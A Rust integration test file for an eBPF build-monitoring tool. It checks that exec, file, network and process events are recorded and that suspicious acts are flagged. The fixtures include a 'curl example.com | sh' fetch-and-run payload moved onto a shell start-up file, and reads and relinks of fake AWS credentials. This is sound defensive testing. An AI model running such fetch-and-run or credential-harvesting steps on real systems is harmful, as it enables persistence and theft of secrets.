//! `buildwatch run` end to end: real programs, real eBPF, events asserted from the JSON Lines
//! stream. Network traffic stays on loopback listeners these tests start themselves.

use std::{
    fs,
    os::unix::fs::symlink,
    path::Path,
    process::Command,
    sync::RwLock,
    time::{Duration, Instant},
};

use buildwatch_tests::*;

const TRIGGER: &str = env!("CARGO_BIN_EXE_bw-trigger");

/// The leftover check runs alone, so no other test's run is mid-teardown while it looks.
static KERNEL: RwLock<()> = RwLock::new(());

/// Wait (at most 20 s) until the watched command signals readiness by creating `path`.
fn wait_for_file(path: &Path) {
    let deadline = Instant::now() + Duration::from_secs(20);
    while !path.exists() {
        assert!(Instant::now() < deadline, "command never became ready");
        std::thread::sleep(Duration::from_millis(10));
    }
}

fn canonical(p: &Path) -> String {
    fs::canonicalize(p).unwrap().to_string_lossy().into_owned()
}

fn s(p: &Path) -> String {
    p.to_string_lossy().into_owned()
}

#[test]
fn exec_argv_and_failed_path_search() {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("exec");
    // std's Command searches PATH with execvp: the first directory has no `echo`.
    let missing = dir.join("not-here");
    let path = format!("{}:/usr/bin:/bin", missing.display());
    let r = run_watched(
        &dir,
        &[],
        &[
            "/usr/bin/env",
            &format!("PATH={path}"),
            TRIGGER,
            "exec",
            "echo",
            "hello world",
            "--flag",
        ],
    );
    assert_eq!(r.code(), Some(0), "stderr: {}", r.stderr());
    assert_eq!(r.stdout(), "hello world --flag\n");
    let execs: Vec<_> = r.of_kind("exec").collect();
    let failed = execs
        .iter()
        .find(|e| e["exec"]["filename"] == format!("{}/echo", missing.display()))
        .expect("the failed PATH attempt is reported");
    assert_eq!(failed["exec"]["error"], "ENOENT");
    assert_eq!(failed["exec"]["ret"], -2);
    let ok = execs
        .iter()
        .find(|e| e["exec"]["ret"] == 0 && e["exec"]["argv"][0] == "echo")
        .expect("the successful exec");
    assert_eq!(
        ok["exec"]["argv"],
        serde_json::json!(["echo", "hello world", "--flag"])
    );
    assert!(ok["exec"]["path"].as_str().unwrap().ends_with("/echo"));
    assert_eq!(ok["exec"]["path"], ok["exec"]["filename"]);
    // After a successful exec the process's exe is the new program; a failed one keeps the old.
    assert_eq!(failed["exe"], TRIGGER);
    let echo_exit = r
        .of_kind("exit")
        .find(|e| e["pid"] == ok["pid"])
        .expect("exit of echo");
    assert_eq!(echo_exit["exit"]["code"], 0);
    assert!(echo_exit["exe"].as_str().unwrap().ends_with("/echo"));
    for e in &r.events {
        assert_eq!(e["schema"], 1);
    }
}

/// The kernel carries at most 64 arguments and 4096 bytes of argv; past either it sends what
/// fits and says so.
#[test]
fn long_argv_is_cut_and_flagged() {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("argv");
    let many: Vec<String> = (0..80).map(|i| format!("a{i}")).collect();
    let long = "x".repeat(5000);
    let mut cmd = vec![
        "/bin/sh",
        "-c",
        "/bin/true \"$@\"; /bin/echo short \"$1\" >/dev/null",
        "sh",
    ];
    cmd.extend(many.iter().map(String::as_str));
    let r = run_watched(&dir, &[], &cmd);
    assert_eq!(r.code(), Some(0), "stderr: {}", r.stderr());
    let mut execs = r.of_kind("exec").filter(|e| e["exec"]["ret"] == 0);
    let sh = execs.next().expect("sh's exec");
    let argv = sh["exec"]["argv"].as_array().unwrap();
    assert_eq!(argv.len(), 64, "{argv:?}");
    assert_eq!(argv[4], "a0");
    assert_eq!(argv[63], "a59");
    assert_eq!(sh["exec"]["argv_truncated"], true);
    let t = execs.next().expect("true's exec");
    assert_eq!(t["exec"]["argv"].as_array().unwrap().len(), 64);
    assert_eq!(t["exec"]["argv_truncated"], true);
    let echo = execs.next().expect("echo's exec");
    assert_eq!(
        echo["exec"]["argv"],
        serde_json::json!(["/bin/echo", "short", "a0"])
    );
    assert_eq!(
        echo["exec"].get("argv_truncated"),
        None,
        "absent when nothing was cut"
    );

    // One argument longer than the whole room: cut to 4095 bytes plus its NUL.
    let r = run_watched(&dir, &[], &["/bin/true", "first", &long, "after"]);
    assert_eq!(r.code(), Some(0), "stderr: {}", r.stderr());
    let t = r
        .of_kind("exec")
        .find(|e| e["exec"]["ret"] == 0)
        .expect("true's exec");
    let argv = t["exec"]["argv"].as_array().unwrap();
    assert_eq!(argv.len(), 3, "{:?}", &argv[..2]);
    assert_eq!(argv[1], "first");
    let cut = argv[2].as_str().unwrap();
    assert_eq!(cut.len(), 4096 - "/bin/true\0first\0".len() - 1);
    assert!(cut.bytes().all(|b| b == b'x'));
    assert_eq!(t["exec"]["argv_truncated"], true);
}

#[test]
fn opens_absolute_relative_dirfd_and_symlink() {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("open");
    let d = dir.join("data");
    fs::create_dir(&d).unwrap();
    let secret = d.join("secret.txt");
    fs::write(&secret, "x").unwrap();
    symlink(&secret, d.join("link")).unwrap();
    fs::write(d.join("swap"), "plain").unwrap();
    // `swap` is read as a plain file, then replaced by a symlink to the secret and read again:
    // the second read must show the secret (symlink answers are kept per opened inode). The
    // pause lets buildwatch see the first read while `swap` is still a plain file.
    let script = format!(
        "{t} open {d}/secret.txt && {t} open-rel {d} secret.txt && \
         {t} openat-dirfd {d} secret.txt && {t} open {d}/link && \
         {t} open {d}/swap && sleep 0.5 && rm {d}/swap && ln -s {d}/secret.txt {d}/swap && {t} open {d}/swap",
        t = TRIGGER,
        d = d.display()
    );
    let r = run_watched(&dir, &[], &["/bin/sh", "-c", &script]);
    assert_eq!(r.code(), Some(0), "stderr: {}", r.stderr());

    let secret_s = s(&secret);
    let by_trigger: Vec<_> = r
        .opens_of(&secret_s)
        .filter(|e| e["exe"] == TRIGGER)
        .collect();
    assert_eq!(
        by_trigger.len(),
        3,
        "absolute, cwd-relative, dirfd-relative: {by_trigger:#?}"
    );
    for e in &by_trigger {
        assert_eq!(e["open"]["ret"].as_i64().map(|fd| fd >= 0), Some(true));
        assert_eq!(e["open"]["flags"][0], "read");
    }
    assert!(
        by_trigger[0]["open"].get("requested").is_none(),
        "absolute path needs no rewrite"
    );
    assert_eq!(by_trigger[1]["open"]["requested"], "secret.txt");
    assert_eq!(by_trigger[2]["open"]["requested"], "secret.txt");
    let chdir = r
        .of_kind("chdir")
        .find(|e| e["chdir"]["path"] == s(&d))
        .expect("chdir event");
    assert_eq!(chdir["chdir"]["ret"], 0);
    assert_eq!(chdir["pid"], by_trigger[1]["pid"]);

    let link_path = s(&d.join("link"));
    let link = r
        .opens_of(&link_path)
        .next()
        .expect("open through the symlink");
    assert_eq!(link["open"]["target"], canonical(&secret));

    let swap_path = s(&d.join("swap"));
    let swaps: Vec<_> = r
        .opens_of(&swap_path)
        .filter(|e| e["exe"] == TRIGGER)
        .collect();
    assert_eq!(swaps.len(), 2, "{swaps:#?}");
    assert_eq!(
        swaps[1]["open"]["target"],
        canonical(&secret),
        "the path swapped to a symlink: {swaps:#?}"
    );
}

/// Each argument of open and openat arrives in its field: on x86-64 the exit program reads
/// them from the registers saved at the syscall's entry (no enter program runs), and a
/// register taken for another would show here as a wrong path, flags, mode or directory.
#[test]
fn open_and_openat_syscalls_carry_each_argument() {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("open-args");
    let d = dir.join("data");
    fs::create_dir(&d).unwrap();
    let script = format!(
        "{t} open-syscall {d}/made-by-open && {t} openat-syscall {d} made-by-openat && \
         {t} fchdir-open {d} made-by-openat",
        t = TRIGGER,
        d = d.display()
    );
    let r = run_watched(&dir, &[], &["/bin/sh", "-c", &script]);
    assert_eq!(r.code(), Some(0), "stderr: {}", r.stderr());

    let by_open = s(&d.join("made-by-open"));
    let open = r
        .opens_of(&by_open)
        .find(|e| e["exe"] == TRIGGER)
        .unwrap_or_else(|| panic!("no open of {by_open}"));
    assert_eq!(open["open"]["syscall"], "open", "{open:#}");
    assert_eq!(
        open["open"]["flags_raw"],
        libc::O_WRONLY | libc::O_CREAT,
        "{open:#}"
    );
    assert_eq!(open["open"]["mode"], 0o640, "{open:#}");
    assert_eq!(open["open"]["ret"].as_i64().map(|fd| fd >= 0), Some(true));
    assert!(open["open"].get("requested").is_none(), "{open:#}");

    let by_openat = s(&d.join("made-by-openat"));
    let openat = r
        .opens_of(&by_openat)
        .find(|e| e["exe"] == TRIGGER)
        .unwrap_or_else(|| panic!("no open of {by_openat}"));
    assert_eq!(openat["open"]["syscall"], "openat", "{openat:#}");
    assert_eq!(
        openat["open"]["flags_raw"],
        libc::O_RDWR | libc::O_CREAT,
        "{openat:#}"
    );
    assert_eq!(openat["open"]["mode"], 0o604, "{openat:#}");
    assert_eq!(openat["open"]["ret"].as_i64().map(|fd| fd >= 0), Some(true));
    // The path was relative to the directory's descriptor: resolved through it.
    assert_eq!(openat["open"]["requested"], "made-by-openat", "{openat:#}");

    // fchdir(fd) is reported as a chdir to the directory behind the descriptor it named (a
    // wrong fd would name another file, or none).
    let fchdir = r
        .of_kind("chdir")
        .find(|e| e["exe"] == TRIGGER)
        .unwrap_or_else(|| panic!("no fchdir: {}", r.stderr()));
    assert_eq!(fchdir["chdir"]["path"], s(&d), "{fchdir:#}");
    assert_eq!(fchdir["chdir"]["ret"], 0, "{fchdir:#}");
    let after = r
        .opens_of(&by_openat)
        .filter(|e| e["exe"] == TRIGGER && e["pid"] == fchdir["pid"])
        .count();
    assert_eq!(
        after,
        1,
        "the open after fchdir resolved elsewhere: {}",
        r.stderr()
    );
}

#[test]
fn connects_v4_v6_and_udp_destinations() {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("net");
    let v4 = EchoListener::start("127.0.0.1:0", 1);
    let v6 = EchoListener::start("[::1]:0", 1);
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let udp_port = udp.local_addr().unwrap().port();
    let script = format!(
        "{t} connect {a4} && {t} connect {a6} && {t} sendto 127.0.0.1:{udp_port}",
        t = TRIGGER,
        a4 = v4.addr,
        a6 = v6.addr
    );
    let r = run_watched(&dir, &[], &["/bin/sh", "-c", &script]);
    assert_eq!(r.code(), Some(0), "stderr: {}", r.stderr());
    let mut buf = [0u8; 8];
    assert_eq!(udp.recv(&mut buf).unwrap(), 4, "the datagram arrived");

    let connects: Vec<_> = r
        .of_kind("connect")
        .filter(|e| e["exe"] == TRIGGER)
        .collect();
    let c4 = connects
        .iter()
        .find(|e| e["connect"]["family"] == "inet")
        .expect("v4 connect");
    assert_eq!(c4["connect"]["address"], "127.0.0.1");
    assert_eq!(c4["connect"]["port"], v4.addr.port());
    assert_eq!(c4["connect"]["ret"], 0);
    let c6 = connects
        .iter()
        .find(|e| e["connect"]["family"] == "inet6")
        .expect("v6 connect");
    assert_eq!(c6["connect"]["address"], "::1");
    assert_eq!(c6["connect"]["port"], v6.addr.port());
    let send = r
        .of_kind("send")
        .find(|e| e["send"]["port"] == udp_port)
        .expect("udp destination");
    assert_eq!(send["send"]["protocol"], "udp");
    assert_eq!(send["send"]["address"], "127.0.0.1");
    assert_eq!(send["exe"], TRIGGER);
}

#[test]
fn three_level_tree_has_correct_parents() {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("tree");
    let marker = dir.join("leaf");
    fs::write(&marker, "x").unwrap();
    let r = run_watched(
        &dir,
        &[],
        &[
            TRIGGER,
            "spawn",
            TRIGGER,
            "spawn",
            TRIGGER,
            "open",
            &s(&marker),
        ],
    );
    assert_eq!(r.code(), Some(0), "stderr: {}", r.stderr());
    let marker_path = s(&marker);
    let leaf = r.opens_of(&marker_path).next().expect("leaf open");
    let c = leaf["pid"].as_u64().unwrap();
    let b = leaf["ppid"].as_u64().unwrap();
    let a = leaf["ancestry"][1]["pid"].as_u64().unwrap();
    assert_eq!(leaf["ancestry"][0]["pid"].as_u64(), Some(b));
    let forks: Vec<(u64, u64)> = r
        .of_kind("fork")
        .map(|e| {
            (
                e["pid"].as_u64().unwrap(),
                e["fork"]["child"].as_u64().unwrap(),
            )
        })
        .collect();
    assert!(forks.contains(&(a, b)), "{forks:?}");
    assert!(forks.contains(&(b, c)), "{forks:?}");
    assert_eq!(leaf["ancestry"][0]["exe"], TRIGGER);
    assert_eq!(leaf["ancestry"][1]["exe"], TRIGGER);
    // The root (a) is the command buildwatch started; its parent is outside the run.
    assert_eq!(
        leaf["ancestry"].as_array().unwrap().len(),
        2,
        "{:#?}",
        leaf["ancestry"]
    );
    let exits: Vec<u64> = r
        .of_kind("exit")
        .map(|e| e["pid"].as_u64().unwrap())
        .collect();
    for p in [a, b, c] {
        assert!(exits.contains(&p), "exit of {p} missing");
    }
}

#[test]
fn busy_process_outside_the_run_never_appears() {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("outside");
    let outside_file = dir.join("outside-marker");
    let inside_file = dir.join("inside-marker");
    fs::write(&outside_file, "x").unwrap();
    fs::write(&inside_file, "x").unwrap();
    let mut outside = Command::new(TRIGGER)
        .args(["open-loop", "2000000", &s(&outside_file)])
        .spawn()
        .unwrap();
    let r = run_watched(&dir, &[], &[TRIGGER, "open-loop", "2000", &s(&inside_file)]);
    let outside_still_running = outside.try_wait().unwrap().is_none();
    let _ = outside.kill();
    let _ = outside.wait();
    assert!(
        outside_still_running,
        "the outside process must overlap the run"
    );
    assert_eq!(r.code(), Some(0), "stderr: {}", r.stderr());
    assert_eq!(r.opens_of(&s(&inside_file)).count(), 2000);
    assert_eq!(r.opens_of(&s(&outside_file)).count(), 0);
    assert!(r.events.iter().all(|e| e["pid"] != outside.id()));
}

#[test]
fn exit_codes_and_signal_deaths_propagate() {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("exit");
    assert_eq!(
        run_watched(&dir, &[], &[TRIGGER, "exit", "7"]).code(),
        Some(7)
    );
    let killed = run_watched(&dir, &[], &[TRIGGER, "kill-self", "9"]);
    assert_eq!(killed.code(), Some(128 + 9), "stderr: {}", killed.stderr());
    let exit = killed.of_kind("exit").last().expect("exit event");
    assert_eq!(exit["exit"]["signal_name"], "SIGKILL");
    let missing = run_watched(&dir, &[], &["/nonexistent/program"]);
    assert_eq!(missing.code(), Some(127));
    assert!(
        missing.stderr().contains("buildwatch: cannot run"),
        "{}",
        missing.stderr()
    );
}

#[test]
fn sigterm_to_buildwatch_is_forwarded_to_the_command() {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("signal");
    let ready = dir.join("ready");
    let child = spawn_watched(&dir, &[], &[TRIGGER, "wait-signal", &s(&ready)]);
    wait_for_file(&ready);
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    let r = finish_watched(&dir, child);
    assert_eq!(r.stdout(), "got signal 15\n");
    assert_eq!(
        r.code(),
        Some(0),
        "buildwatch exits with the command's status"
    );
}

fn process_alive(pid: u32) -> bool {
    // A killed orphan may linger as a zombie until its new parent reaps it: that is dead.
    match fs::read_to_string(format!("/proc/{pid}/stat")) {
        Ok(stat) => !stat
            .rsplit(')')
            .next()
            .unwrap_or("")
            .trim_start()
            .starts_with('Z'),
        Err(_) => false,
    }
}

#[test]
fn stragglers_are_reported_and_killed_or_kept() {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("straggler");
    let r = run_watched(&dir, &[], &[TRIGGER, "straggler", "300"]);
    assert_eq!(r.code(), Some(0), "stderr: {}", r.stderr());
    let pid: u32 = r.stdout().trim().parse().expect("straggler pid on stdout");
    assert!(
        r.stderr().contains(&format!(
            "process {pid} outlived the command: killed: sleep 300"
        )),
        "{}",
        r.stderr()
    );
    let st = r
        .of_kind("straggler")
        .find(|e| e["pid"] == pid)
        .expect("straggler event");
    assert_eq!(st["straggler"]["action"], "killed");
    assert_eq!(
        st["straggler"]["cmdline"],
        serde_json::json!(["sleep", "300"])
    );
    assert!(!process_alive(pid), "straggler {pid} still alive");
    let killed_exit = r
        .of_kind("exit")
        .find(|e| e["pid"] == pid)
        .expect("its exit event");
    assert_eq!(killed_exit["exit"]["signal_name"], "SIGKILL");

    let r = run_watched(&dir, &["--keep-stragglers"], &[TRIGGER, "straggler", "300"]);
    let pid: u32 = r.stdout().trim().parse().expect("straggler pid on stdout");
    let alive = process_alive(pid);
    unsafe { libc::kill(pid as i32, libc::SIGKILL) };
    assert!(alive, "--keep-stragglers must leave {pid} running");
    assert!(
        r.stderr().contains("outlived the command: kept"),
        "{}",
        r.stderr()
    );
}

#[test]
fn nothing_outlives_buildwatch() {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.write().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("leftover");
    // Normal exit, a killed command, and buildwatch itself terminated by SIGTERM.
    let r1 = run_watched(&dir, &[], &[TRIGGER, "exit", "0"]);
    let r2 = run_watched(&dir, &[], &[TRIGGER, "kill-self", "15"]);
    let ready = dir.join("ready");
    let child = spawn_watched(&dir, &[], &[TRIGGER, "wait-signal", &s(&ready)]);
    wait_for_file(&ready);
    // The programs this buildwatch loaded (other BPF users on the machine are not our concern).
    let held = bpf_program_ids_of(child.id());
    assert!(
        held.len() >= 20,
        "buildwatch holds its programs while running: {held:?}"
    );
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    let r3 = finish_watched(&dir, child);
    assert_eq!(r3.code(), Some(0), "stderr: {}", r3.stderr());
    for r in [&r1, &r2, &r3] {
        let left = cgroups_named(&format!("buildwatch-{}-", r.pid));
        assert!(left.is_empty(), "cgroups left: {left:?}");
    }
    // buildwatch hands the (slow) tracepoint releases to a detached process as it exits:
    // the programs must be gone within seconds.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let left = loop {
        let left: Vec<u32> = held
            .iter()
            .copied()
            .filter(|id| bpf_program_exists(*id))
            .collect();
        if left.is_empty() || std::time::Instant::now() > deadline {
            break left;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    };
    assert!(
        left.is_empty(),
        "programs still loaded 20 s after buildwatch exited: {left:?}"
    );
}

/// Run `bw-trigger MODE N FILE` and check that all N opens of FILE arrived, nothing lost.
fn all_opens_arrive(mode: &str, n: usize) {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new(mode);
    let f = dir.join("f");
    fs::write(&f, "x").unwrap();
    let r = run_watched(&dir, &[], &[TRIGGER, mode, &n.to_string(), &s(&f)]);
    assert_eq!(r.code(), Some(0), "stderr: {}", r.stderr());
    assert_eq!(r.of_kind("lost").count(), 0, "{}", r.stderr());
    assert_eq!(r.opens_of(&s(&f)).count(), n);
    assert!(r.stderr().contains("; lost 0;"), "{}", r.stderr());
}

#[test]
fn hundred_thousand_opens_lose_nothing() {
    all_opens_arrive("open-loop", 100_000);
}

/// Each thread's stashed syscall arguments stay in a kernel map (16,384 entries) until the
/// thread exits: more threads than that over a run, one after another, must lose nothing.
#[test]
fn twenty_thousand_threads_lose_nothing() {
    all_opens_arrive("thread-opens", 20_000);
}

/// A pid the kernel hands out again is a new process. A (pid P) runs `sh` in one directory,
/// starts a child that outlives it and exits; then B is given the same pid P (through
/// /proc/sys/kernel/ns_last_pid), joins the run from outside and opens a relative path. B's
/// event must carry B's own executable and cwd, not A's (whose table entry is still kept for
/// its child's ancestry), and the finding on it must name B, not A's argv.
#[test]
fn a_reused_pid_does_not_inherit_a_dead_process() {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("pidreuse");
    let dir_a = dir.join("a");
    let home = dir.join("home");
    let dir_b = home.join(".aws");
    fs::create_dir_all(&dir_a).unwrap();
    fs::create_dir_all(&dir_b).unwrap();
    fs::write(dir_b.join("credentials"), "[default]\n").unwrap();
    fs::write(dir_a.join("credentials"), "not a secret\n").unwrap();
    let pidfile = dir.join("a.pid");
    let done = dir.join("done");
    // A: in dir_a, leaves a sleeping child behind, writes its pid, exits. The command then
    // waits for the test.
    let script = format!(
        "(cd {a} && exec sh -c 'sleep 30 & echo $$ > {p}'); \
         while [ ! -e {d} ]; do sleep 0.05; done",
        a = s(&dir_a),
        p = s(&pidfile),
        d = s(&done)
    );
    let child = spawn_watched(&dir, &[], &["sh", "-c", &script]);
    wait_for_file(&pidfile);
    let pid: u32 = loop {
        if let Ok(t) = fs::read_to_string(&pidfile)
            && let Ok(p) = t.trim().parse()
        {
            break p;
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    while Path::new(&format!("/proc/{pid}")).exists() {
        std::thread::sleep(Duration::from_millis(10));
    }
    let procs = cgroups_named(&format!("buildwatch-{}-", child.id()))
        .into_iter()
        .next()
        .expect("the run's cgroup")
        .join("cgroup.procs");
    // B: the same pid, from outside the run.
    let mut reused = false;
    for _ in 0..200 {
        fs::write("/proc/sys/kernel/ns_last_pid", (pid - 1).to_string()).unwrap();
        let mut b = Command::new(TRIGGER)
            .args(["join-open", &s(&procs), "credentials"])
            .current_dir(&dir_b)
            .stdin(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut stdin = b.stdin.take().unwrap();
        let ours = b.id() == pid;
        std::io::Write::write_all(&mut stdin, if ours { b"go\n" } else { b"no\n" }).unwrap();
        drop(stdin);
        let status = b.wait().unwrap();
        if ours {
            assert!(status.success(), "B failed: {status}");
            reused = true;
            break;
        }
    }
    fs::write(&done, "").unwrap();
    let r = finish_watched(&dir, child);
    assert!(reused, "could not get pid {pid} again");
    assert_eq!(r.code(), Some(86), "B's read is a finding: {}", r.stderr());
    let a_exec = r
        .of_kind("exec")
        .find(|e| e["pid"] == pid && e["exec"]["ret"] == 0)
        .expect("A's exec");
    assert_eq!(a_exec["exec"]["cwd"], s(&dir_a));
    let b_open = r
        .of_kind("open")
        .find(|e| e["pid"] == pid && e["exe"] == TRIGGER)
        .unwrap_or_else(|| {
            panic!(
                "B's open with B's exe: {:#?}",
                r.of_kind("open")
                    .filter(|e| e["pid"] == pid)
                    .collect::<Vec<_>>()
            )
        });
    assert_eq!(
        b_open["open"]["path"],
        s(&dir_b.join("credentials")),
        "resolved in B's cwd"
    );
    assert_ne!(b_open["start_ns"], a_exec["start_ns"]);
    assert!(
        b_open["ancestry"].as_array().is_none_or(|a| a
            .iter()
            .all(|x| x["exe"] != "/usr/bin/dash" && x["exe"] != "/bin/dash")),
        "{b_open:#}"
    );
    assert!(
        r.stderr().contains("sensitive-file-read: bw-trigger (")
            && r.stderr().contains("/.aws/credentials"),
        "{}",
        r.stderr()
    );
}

/// Exec facts come from the new image, not the caller's memory: a memfd run through its
/// descriptor is `/memfd:NAME (deleted)` and fires exec-memfd; a deleted file run through its
/// descriptor is marked deleted and fires exec-deleted-file; argv in pages the caller never
/// touched (not resident at the syscall's entry) is still recorded.
#[test]
fn exec_facts_come_from_the_new_image() {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("exec-image");
    let cold = dir.join("cold-argv");
    fs::write(&cold, b"/bin/true\0cold-arg\0").unwrap();
    let deleted = dir.join("payload");
    let script = format!(
        "{t} memfd-exec payload; {t} deleted-exec {d}; {t} exec-cold-argv {c}",
        t = TRIGGER,
        d = deleted.display(),
        c = cold.display()
    );
    let r = run_watched(&dir, &[], &["/bin/sh", "-c", &script]);
    let execs: Vec<_> = r
        .of_kind("exec")
        .filter(|e| e["exec"]["ret"] == 0)
        .collect();
    let by_arg = |arg: &str| {
        execs
            .iter()
            .find(|e| e["exec"]["argv"][1] == arg)
            .unwrap_or_else(|| panic!("no exec with argv[1] {arg}: {execs:#?}"))
    };
    let memfd = by_arg("from-memfd");
    assert_eq!(
        memfd["exec"]["path"], "/memfd:payload (deleted)",
        "{memfd:#}"
    );
    assert_eq!(memfd["exec"]["deleted"], true);
    assert_eq!(memfd["exec"]["syscall"], "execveat");
    let del = by_arg("from-deleted");
    assert_eq!(del["exec"]["path"], s(&deleted), "{del:#}");
    assert_eq!(del["exec"]["deleted"], true);
    let cold = by_arg("cold-arg");
    assert_eq!(cold["exec"]["argv"][0], "/bin/true", "{cold:#}");
    assert!(cold["exec"].get("read_failed").is_none(), "{cold:#}");

    let report = r.stderr();
    assert!(report.contains("exec-memfd"), "{report}");
    assert!(report.contains("exec-deleted-file"), "{report}");
}

/// Names made without opening count as writes: `mv payload ~/.bashrc` (a rename onto a shell
/// start-up file) is persistence, and a hard or symbolic link that gives a credential another
/// name is a finding, so reading it under that name is not unseen.
#[test]
fn renames_and_links_are_writes() {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("relink");
    let home = dir.join("home");
    fs::create_dir_all(home.join(".aws")).unwrap();
    fs::write(home.join(".aws/credentials"), "[default]\n").unwrap();
    let payload = dir.join("payload");
    fs::write(&payload, "curl example.com | sh\n").unwrap();
    let rc = home.join(".bashrc");
    let hard = dir.join("creds-hard");
    let soft = dir.join("creds-soft");
    let creds = home.join(".aws/credentials");
    // First the payload onto .bashrc; then the credentials, hard- and soft-linked (the
    // trigger's link step links its rename target, so run it a second time on the creds).
    let script = format!(
        "{t} relink {p} {rc} {d}/rc-hard {d}/rc-target {d}/rc-soft && \
         ln {c} {h} && ln -s {c} {s}",
        t = TRIGGER,
        p = payload.display(),
        rc = rc.display(),
        d = dir.path().display(),
        c = creds.display(),
        h = hard.display(),
        s = soft.display(),
    );
    let r = run_watched(&dir, &[], &["/bin/sh", "-c", &script]);
    let renames: Vec<_> = r.of_kind("rename").collect();
    assert_eq!(renames.len(), 1, "{renames:#?}");
    assert_eq!(renames[0]["rename"]["from"], s(&payload));
    assert_eq!(renames[0]["rename"]["to"], s(&rc));
    assert_eq!(renames[0]["rename"]["ret"], 0);
    let links: Vec<_> = r.of_kind("link").collect();
    let hard_link = links
        .iter()
        .find(|l| l["link"]["to"] == s(&hard))
        .unwrap_or_else(|| panic!("no hard link: {links:#?}"));
    assert_eq!(hard_link["link"]["from"], s(&creds));
    let soft_link = links
        .iter()
        .find(|l| l["link"]["to"] == s(&soft))
        .unwrap_or_else(|| panic!("no symlink: {links:#?}"));
    assert_eq!(soft_link["link"]["symbolic"], true);
    let stderr = r.stderr();
    assert!(stderr.contains("write-shell-rc"), "{stderr}");
    assert!(stderr.contains("sensitive-file-moved"), "{stderr}");
    assert_eq!(r.code(), Some(86), "{stderr}");
}

/// An open through io_uring, which no open syscall tracepoint sees, is reported with the
/// path the kernel copied when it prepared the request, and judged like any open.
#[test]
fn io_uring_opens_are_seen() {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("uring");
    let creds = dir.join("home/.aws/credentials");
    fs::create_dir_all(creds.parent().unwrap()).unwrap();
    fs::write(&creds, "[default]\n").unwrap();
    let r = run_watched(&dir, &[], &[TRIGGER, "uring-open", &s(&creds)]);
    let out = String::from_utf8_lossy(&r.output.stdout).into_owned();
    let fd: i32 = out.trim().rsplit(' ').next().unwrap().parse().unwrap();
    assert!(fd >= 0, "the io_uring open failed: {out}");
    let creds_s = s(&creds);
    let open = r
        .opens_of(&creds_s)
        .next()
        .unwrap_or_else(|| panic!("no open of the credentials: {}", r.stderr()));
    assert_eq!(open["open"]["syscall"], "io_uring_openat", "{open:#}");
    assert_eq!(open["open"]["result_unknown"], true);
    assert!(r.stderr().contains("sensitive-file-read"), "{}", r.stderr());
    assert_eq!(r.code(), Some(86), "{}", r.stderr());
}

/// open_by_handle_at (no path in the call) is seen: the path is what the new descriptor names,
/// the open is judged like any other, and opening by handle is itself a finding.
#[test]
fn opens_by_handle_are_seen() {
    if !require_bpf() {
        return;
    }
    let _k = KERNEL.read().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("by-handle");
    let creds = dir.join("home/.aws/credentials");
    fs::create_dir_all(creds.parent().unwrap()).unwrap();
    fs::write(&creds, "[default]\n").unwrap();
    let r = run_watched(&dir, &[], &[TRIGGER, "open-by-handle", &s(&creds)]);
    let creds_s = s(&creds);
    let open = r
        .of_kind("open")
        .find(|e| e["open"]["syscall"] == "open_by_handle_at")
        .unwrap_or_else(|| panic!("no open_by_handle_at: {}", r.stderr()));
    assert_eq!(open["open"]["path"], creds_s.as_str(), "{open:#}");
    assert!(open["open"]["ret"].as_i64().unwrap() >= 0);
    let stderr = r.stderr();
    assert!(stderr.contains("open-by-handle-in-build"), "{stderr}");
    assert!(stderr.contains("sensitive-file-read"), "{stderr}");
    assert_eq!(r.code(), Some(86), "{stderr}");
}

/// A directory of the test's own under /usr/share (a summarized system directory), removed
/// when dropped.
struct SystemDir(std::path::PathBuf);

impl SystemDir {
    fn new(name: &str) -> Self {
        let p =
            Path::new("/usr/share").join(format!("buildwatch-test-{name}-{}", std::process::id()));
        let _ = fs::remove_dir_all(&p);
        fs::create_dir_all(&p).unwrap();
        Self(p)
    }
    fn join(&self, p: &str) -> std::path::PathBuf {
        self.0.join(p)
    }
}

impl Drop for SystemDir {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

/// The pid of the process that exec'd `path`.
fn exec_pid(r: &RunResult, path: &str) -> u64 {
    r.of_kind("exec")
        .find(|e| e["exec"]["path"] == path && e["exec"]["ret"] == 0)
        .and_then(|e| e["pid"].as_u64())
